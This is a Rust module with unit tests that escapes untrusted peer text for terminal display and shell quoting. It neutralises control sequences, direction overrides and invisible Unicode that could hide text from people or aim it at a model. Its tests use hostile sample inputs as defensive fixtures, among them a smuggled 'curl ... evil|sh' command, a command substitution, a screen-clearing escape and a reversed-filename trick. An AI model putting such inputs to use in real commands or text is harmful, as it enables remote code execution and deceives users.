//! Escapes text from a peer so that it is harmless on a terminal, and as a word of a shell.
//!
//! A server can hide terminal control sequences in a description, reverse the order of a line, or write words that only
//! a model sees. Such characters are written as in JSON (`\u001b`), so that a JSON text keeps its value. Existing
//! backslashes are left alone.

use alloc::borrow::Cow;
use core::fmt::Write;

/// Escapes text for a single line. Line breaks and tabs are escaped too.
#[must_use]
pub fn line(text: &str) -> Cow<'_, str> {
    escaped(text, |c| matches!(c, '\n' | '\t'))
}

/// Escapes text for several lines, or JSON with line breaks between values.
#[must_use]
pub fn lines(text: &str) -> Cow<'_, str> {
    escaped(text, |_| false)
}

fn escaped(text: &str, also: impl Fn(char) -> bool) -> Cow<'_, str> {
    let risky = |c: char| is_unsafe(c) || also(c);
    let Some(first) = text.find(risky) else {
        return Cow::Borrowed(text);
    };
    let mut out = String::with_capacity(text.len() + 16);
    out.push_str(&text[..first]);
    for c in text[first..].chars() {
        match c {
            '\n' if also(c) => out.push_str("\\n"),
            '\t' if also(c) => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            _ if risky(c) => {
                for unit in c.encode_utf16(&mut [0; 2]) {
                    // Writing to a string cannot fail.
                    let _ = write!(out, "\\u{unit:04x}");
                }
            }
            _ => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Returns a text as one word of a shell, for a command that a person may copy.
#[must_use]
pub fn shell_word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@-".contains(c);
    match !text.is_empty() && text.chars().all(is_plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

/// Returns whether a character has an effect other than being displayed in its place.
#[must_use]
pub fn is_unsafe(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        _ if c.is_control() => true,
        _ if c.is_ascii() => false,
        // Requests emoji presentation of the character before it: common, and too limited to hide text in.
        '\u{fe0f}' => false,
        _ => INVISIBLE.iter().any(|(from, to)| (*from..=*to).contains(&c)),
    }
}

/// Ranges of characters without a visible shape, in ascending order.
const INVISIBLE: &[(char, char)] = &[
    ('\u{ad}', '\u{ad}'),       // soft hyphen
    ('\u{34f}', '\u{34f}'),     // grapheme joiner
    ('\u{61c}', '\u{61c}'),     // direction mark
    ('\u{115f}', '\u{1160}'),   // Hangul fillers
    ('\u{17b4}', '\u{17b5}'),   // Khmer inherent vowels
    ('\u{180b}', '\u{180f}'),   // Mongolian selectors and vowel separator
    ('\u{200b}', '\u{200f}'),   // zero width, direction marks
    ('\u{2028}', '\u{202e}'),   // line and paragraph separator, embeddings and overrides
    ('\u{2060}', '\u{206f}'),   // invisible operators, isolates, deprecated formats
    ('\u{3164}', '\u{3164}'),   // Hangul filler
    ('\u{fe00}', '\u{fe0f}'),   // variation selectors
    ('\u{feff}', '\u{feff}'),   // byte order mark
    ('\u{ffa0}', '\u{ffa0}'),   // Hangul filler
    ('\u{fff0}', '\u{fffb}'),   // annotations
    ('\u{1bca0}', '\u{1bca3}'), // shorthand formats
    ('\u{1d173}', '\u{1d17a}'), // musical formats
    ('\u{e0000}', '\u{e0fff}'), // tags and selectors: a whole hidden alphabet
];

#[cfg(test)]
mod tests {
    use super::*;

    const CASES: &[(&str, &str, &str)] = &[
        ("nothing to do", "plain ünïcödé 漢字 🦀", "plain ünïcödé 漢字 🦀"),
        ("a picture", "❤\u{fe0f}", "❤\u{fe0f}"),
        ("an accent of its own", "e\u{301}", "e\u{301}"),
        ("backslashes stay", "a\\nb\\u001b", "a\\nb\\u001b"),
        ("terminal sequence", "a\u{1b}[2Jb", "a\\u001b[2Jb"),
        ("bell, backspace, delete, nul", "\u{7}\u{8}\u{7f}\0", "\\u0007\\u0008\\u007f\\u0000"),
        ("carriage return", "safe\rEVIL", "safe\\rEVIL"),
        ("eight-bit sequence", "\u{9b}31m", "\\u009b31m"),
        ("override", "\u{202e}gnp.exe", "\\u202egnp.exe"),
        ("isolates", "\u{2066}a\u{2069}", "\\u2066a\\u2069"),
        ("direction marks", "\u{200e}\u{200f}\u{61c}", "\\u200e\\u200f\\u061c"),
        ("zero width", "a\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}b", "a\\u200b\\u200c\\u200d\\u2060\\ufeffb"),
        ("separators", "a\u{2028}b\u{2029}", "a\\u2028b\\u2029"),
        ("tags", "\u{e0041}", "\\udb40\\udc41"),
        ("selectors", "\u{fe00}\u{e0100}", "\\ufe00\\udb40\\udd00"),
        ("fillers", "\u{3164}\u{ffa0}\u{115f}", "\\u3164\\uffa0\\u115f"),
    ];

    #[test]
    fn unsafe_characters_are_escaped() {
        for (name, text, want) in CASES {
            assert_eq!(lines(text), *want, "{name}");
            assert_eq!(line(text), *want, "{name}");
        }
        assert_eq!(lines("a\n\tb"), "a\n\tb");
        assert_eq!(line("a\n\tb\r\n"), "a\\n\\tb\\r\\n");
    }

    #[test]
    fn escaped_json_keeps_its_value() {
        for (_, text, _) in CASES {
            let json = serde_json::to_string(&[text]).expect("JSON");
            let shown = lines(&json);
            assert!(!shown.contains(is_unsafe), "{shown:?}");
            let [back]: [String; 1] = serde_json::from_str(&shown).expect("JSON");
            assert_eq!(back, *text);
        }
    }

    #[test]
    fn all_control_characters_are_unsafe() {
        assert!(INVISIBLE.windows(2).all(|pair| pair[0].1 < pair[1].0), "in order and apart");
        for c in
            (0..=0x1f).chain(0x7f..=0x9f).filter_map(char::from_u32).filter(|c| !matches!(c, '\n' | '\t'))
        {
            assert!(is_unsafe(c), "{c:?}");
        }
    }

    #[test]
    fn words_of_a_shell_run_nothing() {
        for (text, expected) in [
            ("https://h.example:1/a_b-c", "https://h.example:1/a_b-c"),
            ("a;curl${IFS}evil|sh", "'a;curl${IFS}evil|sh'"),
            ("a'$(x)'", r"'a'\''$(x)'\'''"),
            ("http://h/?…", "'http://h/?…'"),
            ("", "''"),
        ] {
            assert_eq!(shell_word(text), expected);
        }
    }
}
